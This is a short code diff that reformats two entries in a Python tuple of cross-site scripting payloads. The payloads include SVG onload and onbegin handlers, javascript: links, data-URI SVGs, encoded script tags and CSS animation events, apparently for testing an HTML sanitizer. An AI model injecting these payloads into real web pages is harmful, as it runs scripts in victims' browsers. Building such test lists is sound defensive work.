@@ -32,7 +32,10 @@ PAYLOADS = (
     f"<svg><set onbegin={RUN} attributename=x>",
     f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
     f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
-    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}></svg>#x'/></svg>",
+    (
+        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg "
+        f"onload={RUN}></svg>#x'/></svg>"
+    ),
     f"<math><mtext><script>{RUN}</script></mtext></math>",
     f"<body onload={RUN}>",
     f"<body onpageshow={RUN}>",
@@ -61,5 +64,8 @@ PAYLOADS = (
     f"&lt;script&gt;{RUN}&lt;/script&gt;",
     f"&#60;script&#62;{RUN}&#60;/script&#62;",
     f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
-    f"<style>*{{background:url(//127.0.0.1:9/x)}}</style><x style=animation-name:a onanimationstart={RUN}>",
+    (
+        f"<style>*{{background:url(//127.0.0.1:9/x)}}</style><x style=animation-name:a "
+        f"onanimationstart={RUN}>"
+    ),
 )
